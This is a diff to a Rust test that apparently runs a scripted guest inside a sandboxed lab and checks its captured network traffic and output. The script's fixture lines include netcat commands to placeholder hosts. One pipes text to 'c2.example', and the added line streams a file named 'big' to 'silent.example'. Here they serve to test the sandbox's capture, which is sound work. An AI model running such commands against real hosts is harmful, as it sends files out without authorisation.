@@ -14,6 +14,7 @@ wget -q -O - http://gone.example/ || echo gone
 wget -q -O - http://named.example:8080/x
 wget -q -O big http://files.example/big && sha256sum < big
 echo ready | nc c2.example 4444
+nc silent.example 9999 < big && echo all of it
 nc 127.0.0.1 81 || echo closed
 ";
 
@@ -83,7 +84,7 @@ fn a_guest_meets_who_is_declared_and_the_capture_has_it_all() {
     let run = lab.run("net.yaml", &[]);
     let digest = hotcell_schema::digest::Digest::of(&big);
     let expected = format!(
-        "a page\na file\nnone\n<html><head><title>It works</title></head><body><p>It works.</p></body></html>\ngone\nanother\n{digest}  -\nwho\ngo\nclosed\n"
+        "a page\na file\nnone\n<html><head><title>It works</title></head><body><p>It works.</p></body></html>\ngone\nanother\n{digest}  -\nwho\ngo\nall of it\nclosed\n"
     );
     for (name, text) in stdout(&run) {
         assert_eq!(text, expected, "{name}");
